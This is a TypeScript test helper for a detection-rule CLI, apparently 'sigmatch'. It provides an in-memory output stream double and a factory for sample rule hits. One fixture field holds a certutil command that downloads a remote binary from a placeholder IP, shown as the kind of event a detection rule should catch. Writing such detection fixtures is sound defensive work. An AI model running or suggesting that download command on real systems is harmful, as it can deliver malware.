/** A writable stream double for the output formats, progress line and summary. */
import type { OutputHit, OutputStream } from '../../src/cli/output/types.js';

export class MemoryStream implements OutputStream {
  text = '';
  writes = 0;
  /** When set, write() returns false (the stream's buffer is full) until drain() is called. */
  full = false;
  private drainListeners: (() => void)[] = [];

  constructor(
    readonly isTTY = false,
    readonly columns?: number,
  ) {}

  write(chunk: string): boolean {
    this.text += chunk;
    this.writes++;
    return !this.full;
  }

  once(_event: 'drain', listener: () => void): this {
    this.drainListeners.push(listener);
    return this;
  }

  drain(): void {
    this.full = false;
    const listeners = this.drainListeners;
    this.drainListeners = [];
    for (const l of listeners) l();
  }
}

export function hit(over: Partial<OutputHit> & { title?: string; level?: string } = {}): OutputHit {
  const { title, level, ...rest } = over;
  return {
    event: 3,
    line: 4,
    rule: {
      id: '0f7d3b9a-1c2e-4d5f-8a6b-7e9c0d1f2a22',
      title: title ?? 'Certutil Fetching A Remote File',
      level: 'level' in over ? level : 'high',
      status: 'experimental',
      tags: ['attack.command-and-control', 'attack.t1105'],
      author: 'sigmatch examples',
    },
    detections: ['selection_image', 'selection_verb'],
    fields: [
      { field: 'Image', value: 'C:\\Windows\\System32\\certutil.exe' },
      { field: 'CommandLine', value: 'certutil.exe -urlcache -f http://198.51.100.7/a.bin' },
    ],
    ...rest,
  };
}
